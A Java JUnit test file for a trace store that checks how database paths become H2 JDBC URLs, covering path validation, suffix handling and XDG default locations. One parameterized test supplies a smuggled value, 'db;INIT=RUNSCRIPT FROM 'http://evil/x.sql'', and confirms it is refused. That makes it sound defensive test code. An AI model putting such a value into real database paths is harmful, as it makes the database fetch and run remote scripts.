package dev.forkline.trace.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DatabaseLocationTest {

    @TempDir
    Path dir;

    @Test
    void theUrlIsTheCheckedPathAndForklinesOwnSettingOnly() {
        DatabaseLocation location = DatabaseLocation.of(dir.resolve("traces"));

        // AUTO_SERVER: every Forkline process shares the file (docs/live.md); the path itself carries no setting
        assertThat(location.jdbcUrl()).isEqualTo("jdbc:h2:file:" + dir.resolve("traces") + ";AUTO_SERVER=TRUE");
        assertThat(location.dataFile()).isEqualTo(dir.resolve("traces.mv.db"));
    }

    @Test
    void theH2SuffixMayBeGivenOrNot() {
        assertThat(DatabaseLocation.of(dir.resolve("traces.mv.db"))).isEqualTo(DatabaseLocation.of(dir.resolve("traces")));
    }

    @ParameterizedTest
    @ValueSource(strings = {"db;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "db;MODE=MySQL", "a=b", "tab\tname", "new\nline", "~db", "q\"uote"})
    void pathsCarryingUrlSyntaxAreRefused(String name) {
        assertThatThrownBy(() -> TraceStore.open(dir.resolve(name)))
                .isInstanceOf(StoreException.class)
                .hasMessageContaining("unusable database path")
                .hasMessageContaining("has a meaning in a JDBC URL");
        assertThat(dir).isEmptyDirectory();
    }

    @Test
    void relativeAndUnnormalisedPathsAreRefused() {
        assertThatThrownBy(() -> TraceStore.open(Path.of("relative/db")))
                .isInstanceOf(StoreException.class).hasMessageContaining("must be absolute");
        assertThatThrownBy(() -> TraceStore.open(Path.of(dir + "/a/../db")))
                .isInstanceOf(StoreException.class).hasMessageContaining("must be normalised");
    }

    @Test
    void theParentDirectoryIsCreated() throws Exception {
        Path nested = dir.resolve("a/b/c/forkline");
        try (TraceStore store = TraceStore.open(nested)) {
            assertThat(store.location()).isEqualTo(dir.resolve("a/b/c/forkline.mv.db"));
        }
        assertThat(Files.isRegularFile(dir.resolve("a/b/c/forkline.mv.db"))).isTrue();
    }

    @Test
    void theDefaultLocationHonoursXdgDataHome() {
        Path home = Path.of("/home/ana");

        assertThat(TraceStore.defaultLocation(Map.of("XDG_DATA_HOME", "/data/ana")::get, home))
                .isEqualTo(Path.of("/data/ana/forkline/forkline"));
        assertThat(TraceStore.defaultLocation(Map.<String, String>of()::get, home))
                .isEqualTo(Path.of("/home/ana/.local/share/forkline/forkline"));
        assertThat(TraceStore.defaultLocation(Map.of("XDG_DATA_HOME", "relative/dir")::get, home))
                .as("the XDG spec says to ignore relative values")
                .isEqualTo(Path.of("/home/ana/.local/share/forkline/forkline"));
        assertThat(TraceStore.defaultLocation(Map.of("XDG_DATA_HOME", "")::get, home))
                .isEqualTo(Path.of("/home/ana/.local/share/forkline/forkline"));
    }
}
